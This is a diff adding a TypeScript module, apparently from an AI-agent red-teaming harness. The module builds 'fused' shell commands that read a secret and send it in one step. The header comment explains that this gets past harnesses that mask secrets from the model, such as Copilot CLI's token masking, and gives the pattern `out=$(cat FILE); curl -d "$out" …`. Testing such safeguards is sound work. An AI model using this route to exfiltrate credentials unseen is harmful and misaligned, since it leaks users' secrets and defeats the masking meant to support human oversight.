@@ -1,0 +1,105 @@
+// `fused`: a step that sends a secret is run as one shell command that also obtains it, so the secret
+// goes from the command that produced it to the send without passing through the model. A harness that
+// masks or withholds a secret in what it shows the model (GitHub Copilot CLI prints a minted token as
+// `******`) stops a model that must copy the value, not one that never needs to see it: `out=$(cat FILE);
+// curl -d "$out" …`. The producers are the goal's earlier steps that print something (a read, a command,
+// a GET, a service call); the send carries their whole output where the step carries the secret's value.
+// A step that carries no secret, or has no earlier producer, or a harness without a shell: no form
+// (the step runs as `direct`).
+import type { ScriptContext } from '../../evidence/types.js';
+import type { Action } from '../../spec/actions.js';
+import type { ToolSpec } from '../conversation.js';
+import type { Route } from '../routes.js';
+import { unseenSecret } from '../secrets-seen.js';
+import { runCall, type StrategyModule, stagedRoute, stepCommand } from './strategy.js';
+
+/** The shell variable the producers' output is held in. */
+const VAR = 'out';
+/** Stands in for the secret while the step's command is built (no case text holds it). */
+const MARK = 'HRFUSEDSECRET7f3a';
+
+/** The texts that stand for a secret in a step: its value, or the placeholder of an unseen one. */
+function secretForms(secrets: Record<string, string> | undefined): string[] {
+  return Object.entries(secrets ?? {}).flatMap(([name, value]) => (value ? [value, unseenSecret(name)] : []));
+}
+
+/** Every string of `value` with each of `forms` replaced by MARK. Pure. */
+function marked<T>(value: T, forms: string[]): T {
+  if (typeof value === 'string') return forms.reduce((s, f) => s.split(f).join(MARK), value as string) as T;
+  if (Array.isArray(value)) return value.map((v) => marked(v, forms)) as T;
+  if (value && typeof value === 'object')
+    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, marked(v, forms)])) as T;
+  return value;
+}
+
+/**
+ * `command` with every `mark` replaced by a reference to `$name` that the shell expands where the mark
+ * stood: `"$name"` outside quotes, `'"$name"'` inside single quotes (close, expand, reopen), `$name` inside
+ * double quotes. Undefined when the mark is where a reference cannot go (after a backslash). Pure.
+ */
+export function spliceVariable(command: string, mark: string, name: string): string | undefined {
+  let out = '';
+  let state: 'bare' | 'single' | 'double' = 'bare';
+  for (let i = 0; i < command.length; ) {
+    if (command.startsWith(mark, i)) {
+      out += state === 'bare' ? `"$${name}"` : state === 'single' ? `'"$${name}"'` : `$${name}`;
+      i += mark.length;
+      continue;
+    }
+    const c = command[i]!;
+    if (c === '\\' && state !== 'single') {
+      if (command.startsWith(mark, i + 1)) return undefined;
+      out += command.slice(i, i + 2);
+      i += 2;
+      continue;
+    }
+    if (c === "'" && state !== 'double') state = state === 'single' ? 'bare' : 'single';
+    else if (c === '"' && state !== 'single') state = state === 'double' ? 'bare' : 'double';
+    out += c;
+    i++;
+  }
+  return out;
+}
+
+/** Whether an earlier goal step prints what a later one may send (a read, a command, a GET, a call). */
+const produces = (a: Action): boolean =>
+  a.do === 'read' || a.do === 'run' || a.do === 'call' || (a.do === 'fetch' && (a.method ?? 'GET') === 'GET');
+
+/** The fused command for `action`, or undefined when it carries no secret or nothing earlier produces one. */
+export function fusedCommand(action: Action, earlier: Action[], ctx: ScriptContext): string | undefined {
+  const forms = secretForms(ctx.secrets);
+  const step = marked(action, forms);
+  if (JSON.stringify(step) === JSON.stringify(action)) return undefined;
+  // A producer that itself carries the secret needs it already: it cannot be what yields it.
+  const producers = earlier
+    .filter((a) => produces(a) && JSON.stringify(marked(a, forms)) === JSON.stringify(a))
+    .map((a) => stepCommand(a, ctx))
+    .filter((c): c is string => c !== undefined);
+  const send = stepCommand(step, ctx);
+  if (!producers.length || send === undefined || !send.includes(MARK)) return undefined;
+  const spliced = spliceVariable(send, MARK, VAR);
+  if (spliced === undefined) return undefined;
+  // stderr stays out: the send carries what the producers printed, as a pipe would.
+  const produce = producers.length === 1 ? producers[0]! : `{ ${producers.join('; ')}; }`;
+  return `${VAR}=$(${produce} 2>/dev/null); ${spliced}`;
+}
+
+function fusedRoutes(
+  action: Action,
+  tools: ToolSpec[],
+  ctx: ScriptContext,
+  _direct: Route[],
+  earlier: Action[] = [],
+): Route[] {
+  const command = fusedCommand(action, earlier, ctx);
+  if (command === undefined) return [];
+  const run = runCall(command, action, tools, ctx);
+  // The request carries the producers' whole output, not the step's literal body (policy.ts effect).
+  const call = run && { ...run, sendsOutput: true as const };
+  return stagedRoute(`fused: ${call?.tool}`, [], call, stepCommand(action, ctx) ?? command);
+}
+
+export const fused: StrategyModule = {
+  doc: 'a step that sends a secret run as one shell command with the goal\'s earlier steps that print it (`out=$(…); send "$out"`), so the value never passes through the model',
+  routes: fusedRoutes,
+};
